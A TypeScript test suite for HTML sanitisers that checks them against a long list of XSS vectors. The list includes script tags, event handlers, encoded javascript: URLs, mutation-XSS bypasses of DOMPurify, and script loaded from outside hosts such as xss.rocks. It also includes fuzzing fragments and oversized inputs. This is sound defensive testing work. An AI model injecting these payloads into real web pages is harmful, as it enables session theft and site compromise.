import fc from 'fast-check';
import { docToHtml, htmlToDoc, safeOriginalHtml, sanitizeHtml } from './index';
import { scriptCapableConstructs } from './testing/xss-check';

/**
 * Vectors from the OWASP XSS filter-evasion cheat sheet, DOMPurify's fixtures and its known
 * mXSS bypasses, plus Xerte's own habits. Every one of them is script-capable as written (the
 * judge must see that), and neither sanitiser may let any of it through.
 */
const VECTORS: [name: string, html: string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script with src', '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>'],
  ['script with odd attribute', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['script in angle brackets', '<<SCRIPT>alert("XSS");//<</SCRIPT>'],
  ['split script', '<scr<script>ipt>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img slashes', '<img/src=x/onerror=alert(1)>'],
  ['img quote confusion', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['img eval src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['img javascript src', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['img unquoted javascript', "<IMG SRC=javascript:alert('XSS')>"],
  ['img mixed case', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['padded decimal entities', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['tab in scheme', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
  ['encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
  ['encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
  ['encoded carriage return', '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">'],
  ['leading control characters', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
  ['link mixed case', '<a href="jAvAsCrIpT:alert(1)">x</a>'],
  ['link entity-encoded j', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['link hex entities', '<a href="&#x6a;&#x61;vascript:alert(1)">x</a>'],
  ['link entity mid-word', '<a href="javas&#99;ript:alert(1)">x</a>'],
  ['link tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['link named newline', '<a href="java&NewLine;script:alert(1)">x</a>'],
  ['link named colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['link leading spaces', '<a href="   javascript:alert(1)">x</a>'],
  ['link leading control', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['link vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['link data html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['link data html plain', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['duplicate href', '<a href="javascript:alert(1)" href="https://ok.nl">x</a>'],
  ['unterminated link', '<a href="javascript:alert(1)">x'],
  ['xerte navigation onclick', '<a href="#" onclick="x_navigateToPage(false,{type:\'linkID\',ID:\'PG1\'})">x</a>'],
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe foreign host', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe lookalike host', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'],
  ['iframe userinfo', '<iframe src="https://www.youtube.com@evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/x"></iframe>'],
  ['protocol-relative player', '<iframe src="//player.vimeo.com/video/1" onload="alert(1)"></iframe>'],
  ['http player', '<iframe src="http://www.youtube.com/embed/x"></iframe>'],
  ['allowed iframe with handler', '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'],
  ['svg animate', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ['math xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['math mglyph style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['DOMPurify 2.0.0 bypass', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['DOMPurify 2.0.17 bypass', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['textarea in svg mXSS', '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'],
  ['style import', "<style>@import 'http://xss.rocks/xss.css';</style>"],
  ['style element hiding a tag', '<style><img src=x onerror=alert(1)></style>'],
  ['css url javascript', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['css expression', '<div style="width: expression(alert(1))">x</div>'],
  ['css expression with comment', '<div style="x:expr/**/ession(alert(1))">x</div>'],
  ['css escaped url', '<div style="background:u\\72l(javascript:alert(1))">x</div>'],
  ['css behavior', '<div style="behavior: url(xss.htc)">x</div>'],
  ['css moz-binding', '<div style="-moz-binding:url(http://xss.rocks/xssmoz.xml#xss)">x</div>'],
  ['comment breakout', '<!--><script>alert(1)</script>-->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['cdata', '<![CDATA[><script>alert(1)</script>]]>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['title breakout', '<title><img title="</title><img src onerror=alert(1)>"></title>'],
  ['textarea breakout', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed svg', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['form action', '<form action="javascript:alert(1)"><input type="submit"></form>'],
  ['input autofocus', '<input onfocus=alert(1) autofocus>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['isindex', '<isindex action=javascript:alert(1) type=submit>'],
  ['body onload', '<body onload=alert(1)>'],
  ['body odd handler name', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['frameset', '<frameset onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['div slash handler', "<div/onmouseover='alert(1)'>x</div>"],
  ['table background', '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></tr></TABLE>'],
  ['img svg data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['srcset', '<img srcset="javascript:alert(1) 1x, x.png 2x">'],
  ['video poster', '<video poster=javascript:alert(1)//></video>'],
  ['xlink on html', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><script>alert(1)</script>'],
];

/** Harmless in today's browsers as written (naive filters get them wrong), so the judge stays quiet. */
const HARMLESS_AS_WRITTEN = new Set(['split script', 'img slashes', 'conditional comment']);
/** Made safe without removing anything (the player is upgraded to https), so nothing is reported. */
const REPAIRED = new Set(['http player']);

const sanitisers = [
  ['sanitizeHtml', (html: string) => sanitizeHtml(html).html],
  ['safeOriginalHtml', (html: string) => safeOriginalHtml(html).html],
] as const;

describe('XSS vectors', () => {
  it.each(VECTORS.filter(([name]) => !HARMLESS_AS_WRITTEN.has(name)))('the judge sees the danger in: %s', (_name, html) => {
    expect(scriptCapableConstructs(html)).not.toEqual([]);
  });

  describe.each(sanitisers)('%s', (_name, sanitise) => {
    it.each(VECTORS)('%s', (_vector, html) => {
      const out = sanitise(html);
      expect(scriptCapableConstructs(out)).toEqual([]);
      expect(sanitise(out)).toBe(out);
    });
  });

  it('reports what it removed for each vector', () => {
    for (const [name, html] of VECTORS.filter(([vector]) => !HARMLESS_AS_WRITTEN.has(vector) && !REPAIRED.has(vector))) {
      const { report } = sanitizeHtml(html);
      if (report.removed.length === 0) throw new Error(`nothing reported for ${name}`);
      if (safeOriginalHtml(html).report.removed.length === 0) throw new Error(`nothing reported by safeOriginalHtml for ${name}`);
    }
  });
});

/** HTML-ish building blocks: tags, attributes, quotes, entities and URL tricks in any order. */
const FRAGMENTS = [
  '<script>', '</script>', '<img', '<a', '</a>', '<svg', '<math>', '<mtext>', '<mglyph>', '<iframe', '</iframe>', '<style>',
  '</style>', '<!--', '-->', '<!-->', '<![CDATA[', ']]>', '<noscript>', '</noscript>', '<template>', '<p>', '</p>', '<p',
  '<div', '</div>', '<span', '</span>', '<table>', '<tr>', '<td>', '</td>', '<textarea>', '</textarea>', '<title>',
  '<xmp>', '<pre>', '<code>', '<h1>', '<ul>', '<li>', '<ol', '<b>', '</b>', '<i>', '<br>', '<hr/>', '<form', '<input',
  '<object', '<base', '<meta', '<body', '<?', '?>', '<!DOCTYPE html>', '<center>', '<font', '<o:p>', '>', '/>', '/', '<',
  '"', "'", '`', '=', ' ', '\t', '\n', '\u0000', '\u0001', 'on', 'onerror=', 'onload=', 'onclick=', ' href=', ' src=',
  ' style=', ' srcdoc=', ' xlink:href=', ' action=', ' formaction=', ' srcset=', ' data-page-link=', ' target=_blank',
  ' align=center', ' colspan=2', 'javascript:', 'JaVaScRiPt:', 'java&#x09;script:', 'java\tscript:', '&#106;',
  '&#x6A;', '&colon;', '&NewLine;', 'jav&#97;script', 'vbscript:', 'data:text/html,', 'data:image/png;base64,AAAA',
  'data:image/svg+xml,', 'url(', 'expression(', '\\75rl(', 'u\\72l(', '/**/', 'text-align:right;', 'alert(1)', 'x',
  'word', '&amp;', '&lt;', '&gt;', '&quot;', '&nbsp;', '&', '#', '#PG1', 'PG1', 'media/a.png',
  'https://www.youtube.com/embed/a', '//player.vimeo.com/video/1', 'https://evil.example/', 'mailto:a@b.nl',
];

const htmlish = fc.oneof(
  { weight: 4, arbitrary: fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 60 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
  { weight: 1, arbitrary: fc.array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 5 })), { maxLength: 40 }).map((p) => p.join('')) },
);

describe('fuzzing with random HTML-ish input', () => {
  it.each(sanitisers)('%s never throws, never lets script through and is idempotent', (_name, sanitise) => {
    fc.assert(
      fc.property(htmlish, (html) => {
        const out = sanitise(html);
        expect(scriptCapableConstructs(out)).toEqual([]);
        expect(sanitise(out)).toBe(out);
      }),
      { numRuns: 1500 },
    );
  });

  it('sanitizeHtml output is a fixed point of the document conversion', () => {
    fc.assert(
      fc.property(htmlish, (html) => {
        const out = sanitizeHtml(html).html;
        expect(docToHtml(htmlToDoc(out).doc)).toBe(out);
        expect(htmlToDoc(out).report.removed).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('large and hostile input finishes in bounded time', () => {
  const oneMegabyte = (unit: string) => unit.repeat(Math.ceil(1_000_000 / unit.length));
  const inputs: [string, string][] = [
    ['mixed vectors and content', oneMegabyte(VECTORS.map(([, html]) => `<p>text <b>bold</b></p>${html}`).join(''))],
    ['deep nesting', oneMegabyte('<div><b>')],
    ['unclosed tags', oneMegabyte('<p><span style="color:red">x')],
    ['many attributes', `<p ${oneMegabyte('a=1 ')}>x</p>`],
    ['long style', `<p style="${oneMegabyte('color:red;/*')}">x</p>`],
    ['long text', oneMegabyte('word &amp; ')],
    ['many spaces between marks', oneMegabyte('<b> </b><i> </i>')],
    ['unterminated comment', `<!--${oneMegabyte('x')}`],
  ];

  it.each(inputs)('%s', (_name, html) => {
    for (const [, sanitise] of sanitisers) {
      const started = performance.now();
      const out = sanitise(html);
      expect(performance.now() - started).toBeLessThan(10_000);
      expect(scriptCapableConstructs(out)).toEqual([]);
    }
  });
});
